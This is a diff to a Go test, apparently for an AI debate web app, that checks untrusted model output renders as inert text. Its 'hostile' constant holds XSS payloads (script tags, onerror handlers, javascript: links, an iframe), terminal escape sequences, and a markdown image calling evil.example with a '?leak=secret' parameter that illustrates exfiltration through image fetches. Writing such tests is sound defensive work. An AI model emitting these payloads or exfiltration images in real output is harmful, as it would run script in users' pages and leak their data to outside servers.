@@ -13,9 +13,12 @@ import (
 	"github.com/parleyhq/parley/internal/textsafe"
 )
 
-// hostile is model output and a topic that try to run script in the page
-// and to drive a terminal.
+// hostile is model output and a topic that try to run script in the page,
+// to drive a terminal, and to make the page fetch an image (which tells a
+// server of the model's choosing who reads the debate, and when, and
+// carries what the model put in the address; CSP blocks only other sites).
 const hostile = "<script>window.pwned=1</script> <img src=x onerror=\"window.pwned=2\"> [click](javascript:window.pwned=3) " +
+	"![track](https://evil.example/t.png?leak=secret) ![self](/api/debates) " +
 	"<a href=\"javascript:alert(1)\">x</a> \x1b]0;owned\x07\x1b[31mred\x1b[0m <iframe src=//evil.example></iframe> {{.}}" +
 	" \u009b2J\u009b1;1H \u202egnp.exe\x7f"
 
@@ -91,6 +94,20 @@ func TestHostileOutputIsInert(t *testing.T) {
 		if strings.ContainsAny(out, "\x1b\x07") {
 			t.Errorf("GET %s: terminal escapes reach the page", path)
 		}
+	}
+	// A completed turn's card shows the reply as text: raw HTML that
+	// starts it (a <script> or <!-- block) hid all of it, and an image
+	// in it was fetched from the model's address or this server's.
+	_, panel := ts.do(t, "GET", "/debates/"+id+"/panel", "")
+	_, card, _ := strings.Cut(panel, `data-turn="r1/argument/a"`)
+	card, _, _ = strings.Cut(card, "</article>")
+	for _, want := range []string{"&lt;script&gt;window.pwned=1&lt;/script&gt;", "![track](https://evil.example/t.png?leak=secret)", "![self](/api/debates)"} {
+		if !strings.Contains(card, want) {
+			t.Errorf("the turn's card does not show %q as text:\n%s", want, card)
+		}
+	}
+	if strings.Contains(panel, "<img") {
+		t.Errorf("the page shows an image from model output:\n%s", panel)
 	}
 	// The JSON API escapes HTML too, for clients that paste it into pages.
 	_, out := ts.do(t, "GET", "/api/debates/"+id, "")
